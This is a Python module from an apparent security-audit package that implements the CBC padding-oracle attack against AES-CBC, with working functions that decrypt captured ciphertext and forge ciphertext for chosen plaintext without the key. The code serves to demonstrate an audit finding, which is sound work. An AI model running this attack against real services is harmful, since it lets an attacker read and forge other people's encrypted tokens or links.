"""The CBC padding-oracle attack (Vaudenay, 2002): decrypt and forge AES-CBC without the key (finding ST-2).

An *oracle* is anything that says whether the padding of ``(iv, ciphertext)`` checks out after decryption: a
function ``oracle(iv, ciphertext) -> bool``. A portal that answers a bad-padding link differently from a link that
decrypts to something that is not JSON (by error page, status, log line or time) is one.

In CBC, ``P_i = D_K(C_i) ⊕ C_{i-1}`` (``C_0`` = the IV). Sending the IV ``X`` with the single block ``C`` makes the
server decrypt ``D_K(C) ⊕ X``; choosing the last byte of ``X`` until the padding checks out reveals the last byte of
``D_K(C)``, and so on backwards, 256 tries per byte at most (128 on average). With ``D_K(C)`` known:

* :func:`decrypt`: ``P_i = D_K(C_i) ⊕ C_{i-1}`` for every block of a captured link;
* :func:`forge`: pick any last block, then walk backwards, each previous block being ``D_K(next) ⊕ P``: the link
  decrypts to the attacker's plaintext.

An oracle may also have a batch method ``first_valid(iv, ciphertext, position, start) -> (value | None, queries)``
that tries the values ``start..255`` for byte ``position`` of ``iv`` in order and stops at the first one whose
padding checks out; the count is the same, the bridge calls are fewer (:mod:`conformance.audit.khoros_java_oracle`).
"""

from __future__ import annotations

import secrets
from collections.abc import Callable

from conformance.arguments import require_bytes, require_callable
from conformance.errors import ConformanceError, InvalidArgument

BLOCK = 16
#: The most blocks :func:`decrypt` reads and :func:`forge` writes (4 KiB; a Secure Transfer payload is a few
#: hundred bytes): each block costs up to 16 x 256 oracle queries.
MAX_BLOCKS = 256

Oracle = Callable[[bytes, bytes], bool]


def pad(data: bytes) -> bytes:
    """PKCS#5/#7 padding to whole 16-byte blocks (always at least one byte). Raises :class:`InvalidArgument` for
    what is not bytes."""
    data = require_bytes(data, "data")
    count = BLOCK - len(data) % BLOCK
    return data + bytes([count]) * count


def unpad(data: bytes) -> bytes:
    """Remove PKCS#5/#7 padding. Raises :class:`InvalidArgument` when it does not check out or is not bytes."""
    data = require_bytes(data, "data")
    count = data[-1] if data else 0
    if not 1 <= count <= BLOCK or len(data) % BLOCK or data[-count:] != bytes([count]) * count:
        raise InvalidArgument("the padding does not check out")
    return data[:-count]


def _ask(oracle: Callable[..., object], *arguments: object) -> object:
    """``oracle(*arguments)``; what it raises that is not a :class:`ConformanceError` becomes an
    :class:`InvalidArgument` naming its type (its message may hold the caller's key or plaintext)."""
    try:
        return oracle(*arguments)
    except ConformanceError:
        raise
    except Exception as exc:
        raise InvalidArgument(f"the oracle raised {type(exc).__name__}") from None


def _first_valid(oracle: Oracle, iv: bytes, block: bytes, position: int, start: int) -> tuple[int | None, int]:
    batch = getattr(oracle, "first_valid", None)
    if batch is not None:
        found = _ask(batch, iv, block, position, start)
        if not (isinstance(found, tuple) and len(found) == 2 and isinstance(found[1], int)):
            raise InvalidArgument("the oracle's first_valid must return (value or None, queries)")
        value, queries = found
        if value is not None and (isinstance(value, bool) or not isinstance(value, int) or not start <= value < 256):
            raise InvalidArgument("the oracle's first_valid returned a byte value out of range")
        return value, queries
    probe = bytearray(iv)
    for queries, value in enumerate(range(start, 256), start=1):
        probe[position] = value
        if _ask(oracle, bytes(probe), block):
            return value, queries
    return None, 256 - start


def intermediate(oracle: Oracle, block: bytes) -> tuple[bytes, list[int]]:
    """``D_K(block)``, the raw AES decryption of one ciphertext block, found from the last byte to the first.

    Returns it with the oracle queries each byte took (in byte order; the last byte's count includes the one extra
    query that rules out a longer valid padding). Raises :class:`InvalidArgument` for a block that is not 16 bytes,
    or when the oracle accepts no value for a byte (it is not a padding oracle for this key), or raises.
    """
    require_callable(oracle, "oracle")
    if len(require_bytes(block, "block")) != BLOCK:
        raise InvalidArgument("a CBC block is 16 bytes")
    known = bytearray(BLOCK)
    queries = [0] * BLOCK
    for padding in range(1, BLOCK + 1):
        position = BLOCK - padding
        probe = bytearray(BLOCK)
        for later in range(position + 1, BLOCK):
            probe[later] = known[later] ^ padding
        start = 0
        while True:
            value, used = _first_valid(oracle, bytes(probe), block, position, start)
            queries[position] += used
            if value is None:
                raise InvalidArgument(f"the oracle accepted no value for byte {position}: not a padding oracle")
            probe[position] = value
            if padding == 1 and position > 0:
                # The plaintext may have ended in 02 02 (or longer) by chance: change the byte before and ask again.
                check = bytearray(probe)
                check[position - 1] ^= 0xFF
                queries[position] += 1
                if not _ask(oracle, bytes(check), block):
                    start = value + 1
                    continue
            break
        known[position] = value ^ padding
    return bytes(known), queries


def decrypt(oracle: Oracle, iv: bytes, ciphertext: bytes) -> tuple[bytes, list[int]]:
    """Decrypt ``ciphertext`` (whole blocks) sealed with ``iv``, asking only ``oracle``.

    Returns the plaintext without its padding, and the queries each ciphertext byte took (one count per byte of
    ``ciphertext``). Raises :class:`InvalidArgument` for an IV that is not 16 bytes, a ciphertext that is not whole
    blocks (at most :data:`MAX_BLOCKS`), or an oracle that does not behave as a padding oracle.
    """
    require_callable(oracle, "oracle")
    iv, ciphertext = bytes(require_bytes(iv, "iv")), bytes(require_bytes(ciphertext, "ciphertext"))
    if len(iv) != BLOCK:
        raise InvalidArgument("the IV must be 16 bytes")
    if not ciphertext or len(ciphertext) % BLOCK:
        raise InvalidArgument("the ciphertext must be whole 16-byte blocks")
    if len(ciphertext) > MAX_BLOCKS * BLOCK:
        raise InvalidArgument(f"the ciphertext must be at most {MAX_BLOCKS} blocks")
    previous = iv
    plaintext = bytearray()
    per_byte: list[int] = []
    for offset in range(0, len(ciphertext), BLOCK):
        block = ciphertext[offset : offset + BLOCK]
        decrypted, queries = intermediate(oracle, block)
        plaintext += bytes(a ^ b for a, b in zip(decrypted, previous, strict=True))
        per_byte += queries
        previous = block
    return unpad(bytes(plaintext)), per_byte


def forge(oracle: Oracle, plaintext: bytes, last_block: bytes | None = None) -> tuple[bytes, bytes, int]:
    """An ``(iv, ciphertext)`` pair that decrypts, under the oracle's key, to ``plaintext`` (PKCS#7 padded).

    ``last_block`` is the forgery's final ciphertext block (random by default; any value works). Returns the IV,
    the ciphertext and the total oracle queries (about 128 per padded plaintext byte). Raises
    :class:`InvalidArgument` for a ``last_block`` that is not 16 bytes, a ``plaintext`` that is not bytes or pads to
    more than :data:`MAX_BLOCKS`, or an oracle that is not a padding oracle.
    """
    require_callable(oracle, "oracle")
    chosen = secrets.token_bytes(BLOCK) if last_block is None else require_bytes(last_block, "last_block")
    if len(chosen) != BLOCK:
        raise InvalidArgument("the last block must be 16 bytes")
    padded = pad(require_bytes(plaintext, "plaintext"))
    if len(padded) > MAX_BLOCKS * BLOCK:
        raise InvalidArgument(f"plaintext must pad to at most {MAX_BLOCKS} blocks")
    blocks = [chosen]
    total = 0
    for offset in range(len(padded) - BLOCK, -1, -BLOCK):
        decrypted, queries = intermediate(oracle, blocks[0])
        total += sum(queries)
        blocks.insert(0, bytes(a ^ b for a, b in zip(decrypted, padded[offset : offset + BLOCK], strict=True)))
    return blocks[0], b"".join(blocks[1:]), total


__all__ = ["BLOCK", "MAX_BLOCKS", "Oracle", "decrypt", "forge", "intermediate", "pad", "unpad"]
